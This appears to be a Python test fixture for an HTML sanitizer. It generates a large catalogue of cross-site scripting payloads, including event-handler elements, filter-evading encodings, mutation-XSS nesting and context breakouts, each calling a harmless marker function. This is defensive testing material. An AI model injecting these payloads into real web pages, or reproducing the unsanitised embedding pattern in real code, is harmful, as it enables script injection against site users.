# ruff: noqa: E501, PLR0915  one attempt a line
"""Scripts that hide in articles, each in the place it is made for. All call `pwn(number)`.

`control` is the page a careless program would make of one: it runs there, so that silence in the
workbench is the guard's doing and not the vector's.
"""

import base64
from collections.abc import Iterator
from typing import Final, NamedTuple

#: Where a careless program would put the text of an article.
_PLACES: Final = {
    "html": "<div>{}</div>",
    "double": '<div title="{}">x</div>',
    "single": "<div title='{}'>x</div>",
    "bare": "<div title={}>x</div>",
    "title": "<title>{}</title>",
    "textarea": "<textarea>{}</textarea>",
    "style": "<style>p{{content:'{}'}}</style>",
    "comment": "<!-- {} -->",
    "noscript": "<noscript>{}</noscript>",
    "frame": '<iframe src="{}"></iframe>',
    "script": "<script>var x = '{}';</script>",
    "template": "<script>var x = `{}`;</script>",
    "json": '<script>var x = {{"title": "{}"}};</script>',
    "svg": "<svg><text>{}</text></svg>",
}
_DATA: Final = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"
#: RIFF of one silent sample: what media events need to happen.
_SOUND: Final = (
    "data:audio/wav;base64,"
    + base64.b64encode(
        b"RIFF\x25\0\0\0WAVEfmt \x10\0\0\0\1\0\1\0\x40\x1f\0\0\x40\x1f\0\0\1\0\x08\0data\1\0\0\0\x80"
    ).decode()
)


class Vector(NamedTuple):
    """One attempt."""

    place: str
    text: str

    @property
    def control(self) -> str:
        """The page of a careless program."""
        return f"<!doctype html><html><body>{_PLACES[self.place].format(self.text)}</body></html>"


def vectors() -> list[Vector]:
    """Return all attempts, numbered in their calls."""
    return [Vector(place, text.replace("№", str(n))) for n, (place, text) in enumerate(_all())]


def _all() -> Iterator[tuple[str, str]]:
    for text in (*_elements(), *_spellings(), *_nested()):
        yield "html", text
    yield from _ways_out()


def _elements() -> Iterator[str]:
    """Yield elements that run something by themselves."""
    yield "<script>pwn(№)</script>"
    yield "<script src='data:text/javascript,pwn(№)'></script>"
    yield "<script type=module>pwn(№)</script>"
    yield "<script src=x: onerror=pwn(№)></script>"
    yield "<img src=x: onerror=pwn(№)>"
    yield f"<img src={_DATA} onload=pwn(№)>"
    yield "<img srcset=x: onerror=pwn(№)>"
    yield "<picture><source srcset=x:><img src=x: onerror=pwn(№)></picture>"
    yield "<image src=x: onerror=pwn(№)>"
    yield "<input type=image src=x: onerror=pwn(№)>"
    yield f"<input type=image src={_DATA} onload=pwn(№)>"
    yield "<video src=x: onerror=pwn(№)></video>"
    yield "<video><source src=x: onerror=pwn(№)></video>"
    yield "<audio src=x: onerror=pwn(№)></audio>"
    yield f"<audio src={_SOUND} onloadedmetadata=pwn(№)></audio>"
    yield f"<audio src={_SOUND} oncanplay=pwn(№)></audio>"
    yield f"<audio src={_SOUND} ondurationchange=pwn(№)></audio>"
    yield f"<audio src={_SOUND} onloadstart=pwn(№)></audio>"
    yield f"<video src={_SOUND} onloadeddata=pwn(№)></video>"
    yield "<link rel=stylesheet href=x: onerror=pwn(№)>"
    yield "<link rel=stylesheet href='data:text/css,' onload=pwn(№)>"
    yield "<link rel=preload as=image href=x: onerror=pwn(№)>"
    yield "<style onload=pwn(№)>p{color:red}</style>"
    yield "<svg onload=pwn(№)>"
    yield "<svg><script>pwn(№)</script></svg>"
    yield "<svg><script href='data:text/javascript,pwn(№)'></script></svg>"
    yield "<svg><image href=x: onerror=pwn(№)></image></svg>"
    yield "<svg><animate onbegin=pwn(№) attributeName=x dur=1s></animate></svg>"
    yield "<svg><set onbegin=pwn(№) attributeName=x dur=1s></set></svg>"
    yield "<svg><animateTransform onbegin=pwn(№) attributeName=transform dur=1s /></svg>"
    yield "<svg><animateMotion onbegin=pwn(№) dur=1s /></svg>"
    yield "<svg><animate onend=pwn(№) attributeName=x dur=0.01s></animate></svg>"
    yield "<svg><foreignObject><img src=x: onerror=pwn(№)></foreignObject></svg>"
    yield "<svg><a xmlns:xlink=http://www.w3.org/1999/xlink><image xlink:href=x: onerror=pwn(№) /></a></svg>"
    yield "<math><mtext><img src=x: onerror=pwn(№)></mtext></math>"
    yield "<iframe onload=pwn(№)></iframe>"
    yield "<iframe src=javascript:parent.pwn(№)></iframe>"
    yield "<iframe srcdoc='<script>parent.pwn(№)</script>'></iframe>"
    yield "<iframe srcdoc='&lt;img src=x: onerror=parent.pwn(№)&gt;'></iframe>"
    yield "<object data='data:text/html,x' onload=pwn(№)></object>"
    yield "<embed src='data:text/html,x' onload=pwn(№)>"
    yield "<body onload=pwn(№)>"
    yield "<body onpageshow=pwn(№)>"
    yield "<input autofocus onfocus=pwn(№)>"
    yield "<textarea autofocus onfocus=pwn(№)></textarea>"
    yield "<select autofocus onfocus=pwn(№)></select>"
    yield "<button autofocus onfocus=pwn(№)>x</button>"
    yield "<a href=# autofocus onfocus=pwn(№)>x</a>"
    yield "<div tabindex=0 autofocus onfocus=pwn(№)>x</div>"
    yield "<div contenteditable autofocus onfocus=pwn(№)>x</div>"
    yield "<div tabindex=0 autofocus onfocusin=pwn(№)>x</div>"
    yield "<details open ontoggle=pwn(№)>x</details>"
    yield "<style>@keyframes a{}</style><p style=animation-name:a onanimationstart=pwn(№)>x</p>"
    yield "<style>@keyframes a{}</style><p style='animation:a 1ms' onanimationend=pwn(№)>x</p>"
    yield "<style>@keyframes a{}</style><p style='animation:a 1ms' onwebkitanimationstart=pwn(№)>x</p>"
    yield "<xss contenteditable tabindex=1 autofocus onfocus=pwn(№)>x</xss>"
    yield "<dialog open><img src=x: onerror=pwn(№)></dialog>"


def _spellings() -> Iterator[str]:
    """Yield one attempt as filters fail to see it."""
    yield "<IMG SRC=x: ONERROR=pwn(№)>"
    yield "<ScRiPt>pwn(№)</sCrIpT>"
    yield "<img/src='x:'/onerror=pwn(№)>"
    yield "<img\tsrc=x:\tonerror=pwn(№)>"
    yield "<img src=x: onerror = pwn(№) >"
    yield "<img src=x: onerror='pwn(№)'>"
    yield '<img src=x: onerror="pwn(№)">'
    yield "<img src=x: onerror=&#112;wn(№)>"
    yield "<img src=x: onerror=&#x70;wn(№)>"
    yield "<img src=x: onerror=&#0000112wn(№)>"
    yield "<img src=x: onerror=p&#119;&#110;&lpar;№&rpar;>"
    yield "<img src=x: onerror=\\u0070wn(№)>"
    yield "<img src=x: onerror=window['pw'+'n'](№)>"
    yield "<img src=x: onerror=self[/pw/.source+/n/.source](№)>"
    yield "<img src=x: onerror=setTimeout`pwn\\x28№\\x29`>"
    yield "<img src=x: onerror=pwn`№`>"
    yield "<img src=x: onerror=(0,pwn)(№)>"
    yield "<img src=x: onerror=new&#32;Function`pwn\\x28№\\x29```>"
    yield "<img src=x: alt=`<svg` onerror=pwn(№)>"
    yield "<img src=x: title='>' onerror=pwn(№)>"
    yield "<img src=x: src=y: onerror=pwn(№) onerror=x()>"
    yield "<svg/onload=pwn(№)//"
    yield "<svg onload=pwn(№)<!--"
    yield "<<script>pwn(№)//<</script>"
    yield "<script\n>pwn(№)</script\n>"
    yield "<script/x>pwn(№)</script/x>"
    yield "<script><!--\npwn(№)\n//--></script>"
    yield "<script>/*&lt;*/pwn(№)</script>"
    yield "<iframe src='java&Tab;script:parent.pwn(№)'></iframe>"
    yield "<iframe src='jav&#x0A;ascript:parent.pwn(№)'></iframe>"
    yield "<iframe src=' &#14; javascript:parent.pwn(№)'></iframe>"
    yield "<iframe src=JaVaScRiPt&colon;parent.pwn(№)></iframe>"
    yield "<iframe src='javascript:%70arent.pwn(№)'></iframe>"


def _nested() -> Iterator[str]:
    """Yield markup that changes its meaning when it is read twice (mutation)."""
    yield "<noscript><p title='</noscript><img src=x: onerror=pwn(№)>'></noscript>"
    yield "<style><img src='</style><img src=x: onerror=pwn(№)>'></style>"
    yield "<title><img src='</title><img src=x: onerror=pwn(№)>'></title>"
    yield "<textarea><img src='</textarea><img src=x: onerror=pwn(№)>'></textarea>"
    yield "<xmp><p title='</xmp><img src=x: onerror=pwn(№)>'></xmp>"
    yield "<noembed><p title='</noembed><img src=x: onerror=pwn(№)>'></noembed>"
    yield "<noframes><p title='</noframes><img src=x: onerror=pwn(№)>'></noframes>"
    yield "<svg><style><img src=x: onerror=pwn(№)></style></svg>"
    yield "<svg></p><style><a id='</style><img src=x: onerror=pwn(№)>'></svg>"
    yield "<math><style><img src=x: onerror=pwn(№)></style></math>"
    yield "<svg><title><img src=x: onerror=pwn(№)></title></svg>"
    yield "<svg><desc><svg onload=pwn(№)></desc></svg>"
    yield "<![CDATA[<img src=x: onerror=pwn(№)>]]><img src=x: onerror=pwn(№)>"
    yield "<!--><img src=x: onerror=pwn(№)>-->"
    yield "<!--!><img src=x: onerror=pwn(№)>--><img src=x: onerror=pwn(№)>"
    yield "<?xml ><img src=x: onerror=pwn(№)>"
    yield "</ x><img src=x: onerror=pwn(№)>"
    yield "<!--[if gte mso 9]><![endif]--><img src=x: onerror=pwn(№)>"
    yield "<p>&lt;<b>script>pwn(0)</b></p><svg onload=pwn(№)>"
    yield "**bold** <svg onload=pwn(№)> [x](javascript:pwn(№))"
    yield "| a |\n|---|\n| <img src=x: onerror=pwn(№)> |"
    yield "{{ '<svg onload=pwn(№)>' | safe }}"
    yield "{% raw %}<svg onload=pwn(№)>{% endraw %}"


def _ways_out() -> Iterator[tuple[str, str]]:
    """Yield texts that leave the place a careless program puts them in."""
    yield "double", '"><img src=x: onerror=pwn(№)>'
    yield "double", '" autofocus tabindex=0 onfocus="pwn(№)'
    yield (
        "double",
        '" style="animation-name:a" onanimationstart="pwn(№)"><style>@keyframes a{}</style><p x="',
    )
    yield "single", "'><img src=x: onerror=pwn(№)>"
    yield "single", "' autofocus tabindex=0 onfocus='pwn(№)"
    yield "bare", "x autofocus tabindex=0 onfocus=pwn(№)"
    yield "bare", "x><svg onload=pwn(№)>"
    yield "title", "</title><svg onload=pwn(№)>"
    yield "textarea", "</textarea><svg onload=pwn(№)>"
    yield "style", "</style><svg onload=pwn(№)>"
    yield "comment", "--><svg onload=pwn(№)><!--"
    yield "comment", "--!><svg onload=pwn(№)>"
    yield "noscript", "</noscript><svg onload=pwn(№)>"
    yield "frame", "javascript:parent.pwn(№)"
    yield "frame", "JAVASCRIPT:parent.pwn(№)"
    yield "frame", "java\tscript:parent.pwn(№)"
    yield "frame", "\x01javascript:parent.pwn(№)"
    yield "frame", 'x" onload="pwn(№)'
    yield "frame", 'x" srcdoc="<script>parent.pwn(№)</script>'
    yield "script", "';pwn(№);'"
    yield "script", "'-pwn(№)-'"
    yield "script", "</script><svg onload=pwn(№)>"
    yield "template", "${pwn(№)}"
    yield "template", "`;pwn(№);`"
    yield "json", '"};pwn(№);x={"x":"'
    yield "json", "</script><script>pwn(№)</script>"
    yield "svg", "</text></svg><img src=x: onerror=pwn(№)>"
    yield "svg", "<script>pwn(№)</script>"
